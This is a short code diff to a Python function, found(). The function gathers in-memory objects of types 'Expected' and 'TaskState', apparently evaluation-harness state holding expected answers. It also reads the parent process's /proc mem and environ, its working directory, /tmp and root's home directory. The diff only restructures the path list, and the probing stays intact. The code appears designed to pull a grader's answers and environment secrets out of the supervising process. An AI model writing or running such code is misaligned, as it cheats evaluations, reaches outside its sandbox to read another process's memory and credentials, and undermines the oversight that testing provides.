@@ -36,7 +36,7 @@ def found():
     import ctypes, gc, glob, os
     tensors = [thing for thing in gc.get_objects() if type(thing).__name__ in ("Expected", "TaskState")]
     parent = os.getppid()
-    paths = [f"/proc/{parent}/mem", f"/proc/{parent}/environ", f"/proc/{parent}/cwd", "/tmp", os.path.expanduser("~root")]
+    paths = [*(f"/proc/{parent}/{name}" for name in ("mem", "environ", "cwd")), "/tmp", os.path.expanduser("~root")]
     seen = []
     for path in paths:
         try:
